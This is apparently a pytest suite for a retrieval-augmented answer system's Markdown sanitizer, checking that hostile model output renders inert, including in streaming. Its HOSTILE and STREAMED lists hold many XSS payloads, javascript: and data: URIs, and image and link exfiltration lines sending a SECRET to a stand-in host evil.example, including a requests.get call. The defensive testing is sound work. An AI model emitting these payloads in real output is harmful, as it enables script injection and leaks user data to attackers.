"""Answers as inert Markdown: ``rag.safety.markdown`` against hostile model output.

Each result is also rendered by a real Markdown renderer with raw HTML enabled (the worst
client) and inspected with ``html.parser`` (``markup_problems``), so a case passes only if a
browser would get no script, no event handler, no image and no link off the book's site.
"""

from __future__ import annotations

import random
import re

import pytest

from rag.safety.markdown import (
    StreamSanitizer,
    host_allowed,
    normalise_hosts,
    safe_link_target,
    sanitize_markdown,
    snippet_text,
)
from tests.security.injection.harness import markup_problems

BOOK = "book.example.org"
HOSTS = normalise_hosts([f"https://{BOOK}/", "*.cdn.example.org"])

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>x</script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><circle r=1></svg>',
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<x-widget onclick=alert(1)>click</x-widget>",
    "<details open ontoggle=alert(1)>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>go</button></form>",
    "![x](https://evil.example/p.png?q=SECRET)",
    "![x](<https://evil.example/p.png?q=SECRET>)",
    '![x](https://evil.example/p.png "title")',
    "![x][ref]\n\n[ref]: https://evil.example/p.png?q=SECRET",
    "[![badge](https://evil.example/b.svg)](https://evil.example/?q=SECRET)",
    "![a\nb](https://evil.example/p.png)",
    "[click](https://evil.example/?q=SECRET)",
    "[click](HTTPS://EVIL.EXAMPLE/?q=SECRET)",
    "[click](//evil.example/?q=SECRET)",
    "[click](/\\evil.example/?q=SECRET)",
    "[click](https://book.example.org@evil.example/)",
    "[click](https://evil.example\\@book.example.org/)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click][1]\n\n[1]: https://evil.example/?q=SECRET",
    "see [1]\n\n[1]: https://evil.example/?q=SECRET",
    "[foo\nbar]: https://evil.example/?q=SECRET\n\n[foo bar]",
    "<https://evil.example/?q=SECRET>",
    "<javascript:alert(1)>",
    "<mailto:a@evil.example?body=SECRET>",
    "https://evil.example/?q=SECRET",
    "www.evil.example/?q=SECRET",
    "evil.example/collect?q=SECRET",
    "Visit https://evil.example/path?q=SECRET.",
    "(https://evil.example/?q=SECRET)",
    "javascript:alert(1)",
    "data:image/png;base64,AAAA",
    "`code` <script>alert(1)</script> `more`",
    "a `b\nc` <img src=x onerror=alert(1)>",
    "| `a | <img src=x onerror=alert(1)> | b` |\n|---|---|---|\n| 1 | 2 | 3 |",
    "- ```\n<script>alert(1)</script>",
    "1. a\n\n   ```\n   code\n\n<script>alert(1)</script>",
    "> ```\n<script>alert(1)</script>",
    "``` foo`bar\n<script>alert(1)</script>\n```",
    "text ```\n<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[a](<https://evil.example/?q=1>) and [b](https://evil.example/?q=(1))",
    "[a `code](https://evil.example/?q=1)` b](https://evil.example/?q=2)",
    "![a `x` b](https://evil.example/?q=SECRET)",
    "\u202e<img src=x onerror=alert(1)>",
    "<\u200bscript>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "[x](https://evil.example/?q=1 'title') trailing",
    "[x]( https://evil.example/?q=1 )",
    "[x]\n(https://evil.example/?q=1)",
    "<a href=https://evil.example>x</a>",
    "[[x]](https://evil.example/?q=1)",
    "\\![x](https://evil.example/p.png)",
    "!\\[x](https://evil.example/p.png)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_inert(text: str) -> None:
    cleaned = sanitize_markdown(text, HOSTS)
    assert markup_problems(cleaned) == [], cleaned
    assert "SECRET" not in cleaned, cleaned


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_inert_after_a_citation_and_inside_a_paragraph(text: str) -> None:
    cleaned = sanitize_markdown(f"The ZMP stays in the support polygon [1]. {text} More [2].")
    assert markup_problems(cleaned) == [], cleaned
    assert "The ZMP stays in the support polygon [1]." in cleaned


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("The integral term removes steady-state error [2].", None),
        ("Cite [1][3] and (see [2]).", None),
        ("A **bold** claim with _emphasis_ [1].", None),
        ("- one [1]\n- two [2]", None),
        ("| a | b |\n|---|---|\n| 1 | 2 |", None),
        ("```python\nif a < b:\n    print('<ok>')\n```", None),
        ('```xml\n<robot name="r2"><link name="base"/></robot>\n```', None),
        ("Use `std::vector<double>` here.", None),
        ("See [the kinematics page](/docs/kinematics#forward) [1].", None),
        ("See [the page](#zmp) and [top](?page=2).", None),
        (f"See [it](https://{BOOK}/docs/intro).", None),
        ("See [it](https://a.cdn.example.org/x.pdf).", None),
        (f"See https://{BOOK}/docs/intro for more.", None),
        ("a < b and b > c", "a &lt; b and b > c"),
        ("<b>bold</b> text", "bold text"),
        ("Hello <script>alert(1)</script> world", "Hello  world"),
        ("![x](https://evil.example/a.png?q=1) after", " after"),
        ("[the page](https://evil.example/?q=1) now", "the page now"),
        ("[x](javascript:alert(1))", "x"),
        ("Visit https://evil.example/p?q=1.", "Visit evil[.]example."),
        ("Go to www.evil.example/x?y=1 now", "Go to www[.]evil[.]example now"),
        ("<https://evil.example/?q=1>", "evil[.]example"),
        (f"<https://{BOOK}/x>", f"[https://{BOOK}/x](https://{BOOK}/x)"),
        ("see [1]\n\n[1]: https://evil.example/", "see [1]\n\n"),
        ("a ` lone backtick", "a ' lone backtick"),
        (
            "```\nrequests.get('https://evil.example/c?q=SECRET')\n```",
            "```\nrequests.get('https://evil.example/c?(removed)')\n```",
        ),
        (
            f"```\nrequests.get('https://{BOOK}/c?q=1')\n```",
            f"```\nrequests.get('https://{BOOK}/c?q=1')\n```",
        ),
    ],
)
def test_sanitised_text(text: str, expected: str | None) -> None:
    cleaned = sanitize_markdown(text, HOSTS)
    assert cleaned == (text if expected is None else expected)
    assert markup_problems(cleaned, hosts=(BOOK, "a.cdn.example.org")) == []


def test_without_book_hosts_only_relative_links_survive() -> None:
    text = f"[a](/docs/x) [b](https://{BOOK}/docs/y) https://{BOOK}/z"
    assert sanitize_markdown(text) == f"[a](/docs/x) b {BOOK.replace('.', '[.]')}"


def test_sanitising_is_idempotent() -> None:
    for text in HOSTILE:
        once = sanitize_markdown(text, HOSTS)
        assert sanitize_markdown(once, HOSTS) == once, text


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/docs/a b", "/docs/a%20b"),
        ("/docs/x(1)", "/docs/x%281%29"),
        ("#anchor", "#anchor"),
        (f"https://{BOOK}/a?b=1", f"https://{BOOK}/a?b=1"),
        (f"HTTPS://{BOOK.upper()}/a", f"HTTPS://{BOOK.upper()}/a"),
        ("https://evil.example/", None),
        (f"https://{BOOK}.evil.example/", None),
        (f"https://user:pw@{BOOK}/", None),
        ("//evil.example", None),
        ("\\\\evil.example", None),
        ("ftp://evil.example", None),
        ("javascript:alert(1)", None),
        ("  javascript:alert(1)", None),
        ("&#106;avascript:alert(1)", None),
        ("\\javascript:alert(1)", None),
        ("", None),
    ],
)
def test_link_targets(target: str, expected: str | None) -> None:
    assert safe_link_target(target, HOSTS) == expected


def test_hosts_from_settings() -> None:
    assert normalise_hosts(["https://Book.Example.org/docs/", " *.cdn.example.org ", ""]) == (
        BOOK,
        "*.cdn.example.org",
    )
    assert host_allowed("img.cdn.example.org", HOSTS)
    assert host_allowed("cdn.example.org", HOSTS)
    assert not host_allowed("evilcdn.example.org", HOSTS)
    assert not host_allowed(None, HOSTS)


def test_snippet_text() -> None:
    text = (
        "See ![x](https://evil.example/?q=S) and [docs](https://evil.example/x?q=S) for "
        "std::vector<double>. <img src=x onerror=alert(1)><x-a onclick=1>y</x-a> "
        "https://evil.example/?q=S <!-- hidden --> <script>alert(1)</script>[in](/docs/a)"
    )
    assert snippet_text(text) == "See  and docs for std::vector<double>. y evil[.]example  in"


def _pieces(text: str, rng: random.Random) -> list[str]:
    """``text`` cut at random places, as a model's stream might cut it."""
    cuts = sorted(rng.sample(range(1, len(text)), min(len(text) - 1, rng.randint(1, 12))))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


STREAMED = [
    *HOSTILE,
    "The ZMP [1] must stay inside ![x](https://evil.example/?q=S) the polygon [2].",
    "Answer [1]: see [docs](https://evil.example/?q=S) and <img src=x onerror=alert(1)> ok",
    "First paragraph [1].\n\n```python\nx = '<script>'\n```\n\nThen <script>alert(1)</script>.",
    "Words words words [1]\n[1]: https://evil.example/?q=S",
    "Text ``` not a fence\n<script>alert(1)</script>\n",
    "`span with <b>` and `unclosed <img src=x onerror=alert(1)>",
    "~~~\ncode\n~~~\n<img src=x onerror=alert(1)>",
    "See www.evil.example/?q=S and javascript:alert(1) and evil.example/a?b=c.",
]


@pytest.mark.parametrize("text", STREAMED)
def test_stream_never_shows_markup(text: str) -> None:
    rng = random.Random(text)  # noqa: S311 - reproducible cuts, not a secret
    for _ in range(5):
        sanitizer = StreamSanitizer(HOSTS)
        shown = ""
        for piece in _pieces(text, rng) if len(text) > 1 else [text]:
            shown += sanitizer.feed(piece)
            assert markup_problems(shown) == [], shown
        shown += sanitizer.finish()
        assert markup_problems(shown) == [], shown
        assert "SECRET" not in shown


def test_stream_passes_plain_words_at_once() -> None:
    sanitizer = StreamSanitizer()
    assert sanitizer.feed("The integral term ") == "The integral term "
    assert sanitizer.feed("removes [2] steady") == "removes [2] "
    assert sanitizer.feed("-state error.") == "steady-state "  # a word once it is complete
    assert sanitizer.finish() == "error."


def test_stream_holds_a_link_until_its_paragraph_ends() -> None:
    sanitizer = StreamSanitizer()
    assert sanitizer.feed("See [the page](https://evil.exa") == "See "
    assert sanitizer.feed("mple/?q=1) now.\n\nNext") == "the page now.\n\n"
    assert sanitizer.finish() == "Next"


def test_stream_matches_the_whole_answer_for_plain_text() -> None:
    text = "Forward kinematics [1] chains transforms.\n\n- a [2]\n- b [3]\n\n```\nx < y\n```\n"
    sanitizer = StreamSanitizer()
    shown = "".join(sanitizer.feed(w) for w in re.findall(r"\S+\s*|\s+", text))
    assert shown + sanitizer.finish() == sanitize_markdown(text) == text
